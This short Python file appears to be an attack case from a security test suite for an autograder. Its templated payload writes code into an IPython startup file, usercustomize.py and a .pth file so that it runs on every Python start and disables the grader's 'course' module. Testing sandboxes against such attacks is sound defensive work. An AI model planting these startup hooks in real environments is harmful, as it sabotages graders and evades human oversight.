"""Leave files that IPython and Python run whenever the grader starts them."""

FAIR = 2
LAST = """
import os
import sys

code = "import sys; sys.modules['course'] = None  # @WAS_HERE@"
version = "python%d.%d" % sys.version_info[:2]
for name in (
    "@HOME@/.ipython/profile_default/startup/00-@WAS_HERE@.py",
    f"@HOME@/.local/lib/{version}/site-packages/usercustomize.py",
    f"@HOME@/.local/lib/{version}/site-packages/@WAS_HERE@.pth",
):
    try:
        os.makedirs(os.path.dirname(name), exist_ok=True)
        with open(name, "w") as file:
            file.write(code)
    except OSError as error:
        print(type(error).__name__)
"""
